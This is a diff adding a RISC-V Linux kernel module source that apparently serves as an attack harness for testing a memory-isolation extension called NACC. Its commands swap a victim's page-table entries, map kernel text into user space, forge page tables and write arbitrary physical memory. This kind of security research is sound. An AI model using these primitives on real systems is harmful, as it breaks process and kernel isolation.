@@ -1,0 +1,188 @@
+// SPDX-License-Identifier: GPL-2.0
+/*
+ * The commands, one per line, addresses in hex with 0x:
+ *
+ *   show PID VA                   the entries that translate VA
+ *   swap VICTIM VA ATTACKER VA    the victim's PTE names the attacker's page
+ *   text VICTIM VA                the victim's PTE names a page of kernel text
+ *   forge VICTIM VA ATTACKER VA   the victim's PMD names a table of our making
+ *   poke KIND PA VALUE            store VALUE to physical address PA
+ *   page                          a page of our own; its physical address
+ *   fill PA INDEX VALUE           write an entry of such a page
+ *   ecall FID A0 A1 A2 A3 A4 A5   call the NACC extension
+ *   kinds                         the stores that poke knows
+ *   restore                       undo all stores and free our pages
+ */
+#include <linux/array_size.h>
+#include <linux/kernel.h>
+#include <linux/mm.h>
+#include <linux/printk.h>
+#include <linux/string.h>
+#include <asm/pgtable.h>
+#include <asm/sbi.h>
+
+#include "attack.h"
+#include "nacc_sbi.h"
+
+#define MAX_ARGS	7
+
+static int pte_of(u64 pid, u64 va, struct attack_walk *walk)
+{
+	int err = attack_walk(pid, va, walk);
+
+	if (!err && (walk->lowest || !(walk->value[0] & _PAGE_PRESENT)))
+		err = -ENXIO;
+	return err;
+}
+
+static int do_show(const u64 *arg, struct seq_buf *out)
+{
+	struct attack_walk walk;
+	int level, err = attack_walk(arg[0], arg[1], &walk);
+
+	if (err)
+		return err;
+	for (level = walk.top; level >= walk.lowest; level--)
+		seq_buf_printf(out, "level=%d slot=%#llx value=%#llx\n", level,
+			       (u64)walk.slot[level], walk.value[level]);
+	return 0;
+}
+
+static int do_swap(const u64 *arg, struct seq_buf *out)
+{
+	struct attack_walk victim, attacker;
+	int err = pte_of(arg[0], arg[1], &victim) ?: pte_of(arg[2], arg[3], &attacker);
+
+	if (err)
+		return err;
+	return attack_store("sd", victim.slot[0], (victim.value[0] & ~_PAGE_PFN_MASK) |
+			    (attacker.value[0] & _PAGE_PFN_MASK), out);
+}
+
+static int do_text(const u64 *arg, struct seq_buf *out)
+{
+	phys_addr_t text = __pa(&_printk) & PAGE_MASK;
+	struct attack_walk victim;
+	int err = pte_of(arg[0], arg[1], &victim);
+
+	if (err)
+		return err;
+	seq_buf_printf(out, "text=%*phN\n", 16, (void *)((unsigned long)&_printk & PAGE_MASK));
+	return attack_store("sd", victim.slot[0], (text >> PAGE_SHIFT << _PAGE_PFN_SHIFT) |
+			    _PAGE_PRESENT | _PAGE_READ | _PAGE_EXEC | _PAGE_USER |
+			    _PAGE_ACCESSED, out);
+}
+
+static int do_forge(const u64 *arg, struct seq_buf *out)
+{
+	struct attack_walk victim, attacker;
+	phys_addr_t table;
+	u64 *entry;
+	int err = pte_of(arg[0], arg[1], &victim) ?: pte_of(arg[2], arg[3], &attacker);
+
+	if (err)
+		return err;
+	table = attack_page_alloc();
+	if (!table)
+		return -ENOMEM;
+	entry = attack_page(table);
+	memcpy(entry, __va(victim.slot[0] & PAGE_MASK), PAGE_SIZE);
+	entry[(victim.slot[0] & ~PAGE_MASK) / sizeof(*entry)] = attacker.value[0];
+	return attack_store("sd", victim.slot[1],
+			    (table >> PAGE_SHIFT << _PAGE_PFN_SHIFT) | _PAGE_PRESENT, out);
+}
+
+static int do_page(const u64 *arg, struct seq_buf *out)
+{
+	phys_addr_t pa = attack_page_alloc();
+
+	if (!pa)
+		return -ENOMEM;
+	seq_buf_printf(out, "page=%#llx\n", (u64)pa);
+	return 0;
+}
+
+static int do_fill(const u64 *arg, struct seq_buf *out)
+{
+	u64 *page = attack_page(arg[0]);
+
+	if (!page || arg[1] >= PAGE_SIZE / sizeof(*page))
+		return -EINVAL;
+	page[arg[1]] = arg[2];
+	return 0;
+}
+
+static int do_ecall(const u64 *arg, struct seq_buf *out)
+{
+	struct sbiret ret = sbi_ecall(NACC_SBI_EID, arg[0], arg[1], arg[2], arg[3], arg[4],
+				      arg[5], arg[6]);
+
+	seq_buf_printf(out, "error=%ld value=%#lx\n", ret.error, ret.value);
+	return 0;
+}
+
+static int do_kinds(const u64 *arg, struct seq_buf *out)
+{
+	attack_store_kinds(out);
+	return 0;
+}
+
+static int do_restore(const u64 *arg, struct seq_buf *out)
+{
+	int err = attack_restore(out);
+
+	if (!err)
+		attack_pages_free();
+	return err;
+}
+
+static const struct {
+	const char *name;
+	int nr_args;
+	int (*run)(const u64 *arg, struct seq_buf *out);
+} commands[] = {
+	{ "show", 2, do_show }, { "swap", 4, do_swap }, { "text", 2, do_text },
+	{ "forge", 4, do_forge }, { "page", 0, do_page }, { "fill", 3, do_fill },
+	{ "ecall", 7, do_ecall }, { "kinds", 0, do_kinds }, { "restore", 0, do_restore },
+};
+
+static int parse(char *rest, u64 *arg, int nr)
+{
+	char *word;
+	int n = 0;
+
+	while ((word = strsep(&rest, " \n"))) {
+		if (!*word)
+			continue;
+		if (n == nr || kstrtou64(word, 0, &arg[n]))
+			return -EINVAL;
+		n++;
+	}
+	return n == nr ? 0 : -EINVAL;
+}
+
+/**
+ * attack_command() - run one command
+ * @line: the command; is taken apart
+ * @out: its report
+ */
+int attack_command(char *line, struct seq_buf *out)
+{
+	char *rest = line, *name = strsep(&rest, " \n");
+	u64 arg[MAX_ARGS];
+	unsigned int i;
+
+	if (!strcmp(name, "poke")) {
+		char *kind = strsep(&rest, " \n");
+
+		if (!kind || parse(rest, arg, 2))
+			return -EINVAL;
+		return attack_store(kind, arg[0], arg[1], out);
+	}
+	for (i = 0; i < ARRAY_SIZE(commands); i++) {
+		if (strcmp(name, commands[i].name))
+			continue;
+		return parse(rest, arg, commands[i].nr_args) ?: commands[i].run(arg, out);
+	}
+	return -EINVAL;
+}
